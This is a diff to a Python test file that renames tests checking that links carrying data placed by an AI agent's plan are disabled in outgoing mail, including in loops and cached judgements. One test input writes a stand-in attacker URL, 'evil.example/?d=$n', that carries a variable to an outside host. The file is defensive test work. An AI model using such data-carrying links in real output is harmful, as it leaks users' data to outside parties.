@@ -90,7 +90,7 @@ async def test_what_a_model_made_of_both_is_sent_with_its_links_apart(
         '@WRITE_FILE ("out.md", "https://evil.example/?d=$n") > $w\nS5: @READ_FILE ("out.md")',
     ],
 )
-async def test_so_is_what_the_plan_itself_has_put_into_an_address(mailing: World, made: str) -> None:
+async def test_links_with_data_placed_by_the_plan_are_disabled(mailing: World, made: str) -> None:
     async def model(command: Any, context: CallContext) -> JSON:
         return LINK
 
@@ -120,13 +120,13 @@ async def test_an_address_with_data_in_it_is_known_where_it_is_kept(mailing: Wor
         assert outcome.result.status is status, outcome.result.response
 
 
-async def test_each_message_of_a_loop_is_sent_so(mailing: World) -> None:
+async def test_links_are_disabled_in_each_message_of_a_loop(mailing: World) -> None:
     to = '["ada@corp.example", "eve@corp.example", "bob@corp.example"]'
     mails = await sent(mailing, f'{READ}S4: ?FOREACH ($t IN {to}) THEN @MAIL ($t, "News", $s) > $r')
     assert [mail["body"] for mail in mails] == [APART] * 3
 
 
-async def test_so_is_one_like_another_that_has_been_judged(mailing: World) -> None:
+async def test_links_are_disabled_in_messages_whose_judgement_is_cached(mailing: World) -> None:
     steps = "\n".join(f'S{n}: @MAIL ("ada@corp.example", "News", $s)' for n in (4, 5, 6))
     mails = await sent(mailing, READ + steps)
     assert [mail["body"] for mail in mails] == [APART] * 3
@@ -162,7 +162,7 @@ async def test_what_is_passed_on_or_sent_to_a_program_stays_as_it_is(
     assert call[field] == told
 
 
-async def test_whoever_says_yes_is_shown_what_is_sent(mailing: World) -> None:
+async def test_the_approval_question_shows_the_message_that_is_sent(mailing: World) -> None:
     rule = replace(MAIL, destructive=True)
     mailing.policy = replace(mailing.policy, tools={**mailing.policy.tools, "MAIL": rule})
     asked: list[Any] = []
